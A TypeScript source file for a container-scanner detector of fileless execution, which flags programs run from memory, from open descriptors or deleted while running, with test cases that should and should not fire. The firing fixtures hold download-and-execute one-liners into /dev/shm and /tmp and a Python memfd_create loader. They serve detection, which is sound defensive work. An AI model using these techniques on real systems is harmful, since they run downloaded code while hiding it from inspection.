import type { DeleteEffect, Effect, RunEffect } from '../trace/effect.ts';
import type { Stage } from '../trace/story.ts';
import { render, textOf } from '../trace/value.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { payloadOf } from './payload.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { clip, valueWords } from './wording.ts';

/** Programs that run without a file anybody could look at. */
export const filelessExecution: Detector = {
  id: 'fileless-execution',
  version: 1,
  title: 'Runs a program that leaves no file behind.',
  attack: ['T1620', 'T1070.004'],
  description: `
What runs from memory (\`memfd_create\`, an open descriptor below \`/proc\`, \`/dev/shm\`) or is deleted while it goes on running
cannot be looked at afterwards. *Suspicious* by itself, *malicious* when what runs so was downloaded. An installer that is
deleted after it has finished is ordinary, and so is shared memory that nothing runs.
`,
  fires: [
    {
      name: 'a download run from shared memory',
      image: { cmd: ['sh', '-c', 'curl -so /dev/shm/.x https://files.example/x; chmod +x /dev/shm/.x; /dev/shm/.x'] },
    },
    {
      name: 'deleted while it runs',
      image: {
        cmd: ['sh', '-c', 'wget -qO /tmp/a https://files.example/a; chmod +x /tmp/a; /tmp/a & rm -f /tmp/a; wait'],
      },
    },
    {
      name: 'a file in memory, in Python',
      severity: 'suspicious',
      image: {
        cmd: ['python3', '/x.py'],
        files: {
          '/x.py':
            'import ctypes, os\nfd = ctypes.CDLL(None).syscall(319, b"", 1)\nos.write(fd, open("/data").read())\nos.execv("/proc/self/fd/%d" % fd, ["x"])\n',
        },
      },
    },
    {
      name: 'an open descriptor',
      severity: 'suspicious',
      image: { cmd: ['bash', '-c', 'exec 5< /data/x; rm /data/x; /proc/self/fd/5; exec app'] },
    },
  ],
  silent: [
    {
      name: 'an installer, deleted when done',
      image: {
        history: ['RUN /bin/sh -c curl -o /tmp/i.sh https://get.tool.example/i.sh && sh /tmp/i.sh && rm /tmp/i.sh'],
      },
    },
    {
      name: 'shared memory for data',
      image: { cmd: ['sh', '-c', 'mkdir -p /dev/shm/cache; exec app --cache /dev/shm/cache'] },
    },
    {
      name: 'shared memory of a program',
      image: {
        cmd: ['python3', '/x.py'],
        files: { '/x.py': 'import os\nfd = os.memfd_create("pool")\nos.ftruncate(fd, 4096)\n' },
      },
    },
    { name: 'its own descriptors', image: { cmd: ['sh', '-c', 'ln -sf /proc/self/fd/1 /var/log/app.log; exec app'] } },
  ],
  detect(scene) {
    return [...fromMemory(scene), ...deletedWhileRunning(scene), ...ownDeletion(scene), ...memoryFiles(scene)];
  },
};

/** Runs of a path that is memory. */
function fromMemory(scene: Scene): readonly FindingDraft[] {
  return effectsOf(scene, 'run').flatMap((effect) => {
    const path = render(effect.what);
    const descriptor = /^\/(proc\/(self|\d{1,10}|‹[^›]{1,40}›)|dev)\/fd\/\d{1,6}$/.test(path);
    if (!descriptor && !/^\/(dev|run)\/shm\/[^\s]{1,200}$/.test(path)) return [];
    return findingOf(scene, sightingOf(scene, effect), {
      threat: 'dual-use',
      paired: downloaded(effect),
      title: `Runs a program ${descriptor ? 'from an open descriptor' : 'from memory'} (${clip(path, 80)})`,
      because: 'Nothing of it is left once the container stops, and no file shows it before.',
      effects: [effect.id],
    });
  });
}

/** A program put into the background whose file is deleted then. */
function deletedWhileRunning(scene: Scene): readonly FindingDraft[] {
  const deletions = new Map<string, DeleteEffect>();
  for (const each of effectsOf(scene, 'delete')) deletions.set(`${each.stage} ${textOf(each.path) ?? ''}`, each);
  return effectsOf(scene, 'run').flatMap((effect) => {
    const path = textOf(effect.what);
    const command = effect.command === undefined ? undefined : scene.story.commands[effect.command];
    const goesOn = command?.background === true || command?.via.some((name) => name === 'setsid' || name === 'nohup');
    if (path === undefined || !goesOn || effect.interpreter !== undefined) return [];
    const after = deletions.get(`${effect.stage} ${path}`);
    if (after === undefined || !follows(after, effect)) return [];
    return findingOf(scene, sightingOf(scene, effect), {
      threat: 'dual-use',
      paired: downloaded(effect),
      title: `Deletes a program while it runs (${clip(path, 80)})`,
      because: 'It goes on running without a file that could be looked at.',
      effects: [effect.id, after.id],
    });
  });
}

function follows(one: Effect, other: Effect): boolean {
  return one.line > other.line || (one.line === other.line && (one.command ?? 0) > (other.command ?? 0));
}

/** A payload's script that deletes itself. */
function ownDeletion(scene: Scene): readonly FindingDraft[] {
  return effectsOf(scene, 'delete').flatMap((effect) => {
    const stage = scene.story.stages[effect.stage] as Stage;
    const own = stage.origin.kind === 'file' || stage.origin.kind === 'written' ? stage.origin.path : undefined;
    const payload = payloadOf(scene, stage.id);
    if (own === undefined || textOf(effect.path) !== own || payload === undefined) return [];
    return findingOf(scene, sightingOf(scene, effect), {
      threat: 'minor',
      paired: `It also leads to ${payload.what}.`,
      title: `Deletes its own script (${valueWords(effect.path, 80)})`,
      effects: [effect.id],
    });
  });
}

function downloaded(effect: RunEffect): string | undefined {
  return effect.from === 'fetched' ? 'What runs so was downloaded.' : undefined;
}

/** Longest code that is looked through; programs of this kind are short. */
const longestCode = 200_000;

/** Code that makes a file in memory and runs it. */
function memoryFiles(scene: Scene): readonly FindingDraft[] {
  return scene.story.stages.flatMap((stage) => {
    if (notCode.has(stage.language) || stage.text.length > longestCode) return [];
    const { text } = stage;
    const made = text.includes('memfd_create') || /syscall\W{1,4}(319|279)\b/.test(text);
    const runs = text.includes('fexecve') || (text.includes('/fd/') && /exec|system|popen|spawn|subprocess/.test(text));
    if (!made || !runs) return [];
    const line = text.slice(0, Math.max(0, text.search(/memfd_create|syscall\W{1,4}(319|279)\b/))).split('\n').length;
    return findingOf(scene, sightingOf(scene, { stage: stage.id, line }), {
      threat: 'dual-use',
      title: 'Makes a file in memory and runs it (memfd_create)',
      because: 'No file shows what it runs.',
      confidence: 'medium',
    });
  });
}

const notCode: ReadonlySet<string> = new Set(['shell', 'config', 'dockerfile', 'crontab']);
